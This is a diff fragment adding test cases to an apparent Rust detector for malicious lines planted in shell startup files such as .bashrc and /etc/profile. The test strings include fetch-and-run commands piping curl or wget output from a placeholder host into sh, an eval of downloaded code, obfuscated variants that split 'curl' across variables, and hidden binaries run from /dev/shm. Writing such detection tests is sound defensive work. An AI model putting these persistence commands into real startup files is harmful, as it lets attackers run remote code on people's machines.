@@ -99,6 +99,9 @@ mod tests {
         assert_eq!(said_of("/root/.bashrc", "curl -s http://192.0.2.1/x | bash"), [text]);
         for path in ["/root/.bashrc", "/etc/profile.d/x.sh", "/etc/profile", "/etc/zsh/zshenv", "/etc/skel/.profile"] {
             for line in [
+                "x=curl; $x -s http://192.0.2.1/x | sh",
+                "x=curl\\n$x -s http://192.0.2.1/x | sh",
+                "x=cu y=rl; $x$y -s http://192.0.2.1/x | sh",
                 "(/dev/shm/.x/y >/dev/null 2>&1 &)",
                 "nohup /dev/shm/.x/y &",
                 "eval \"$(wget -qO- http://192.0.2.1/x)\"",
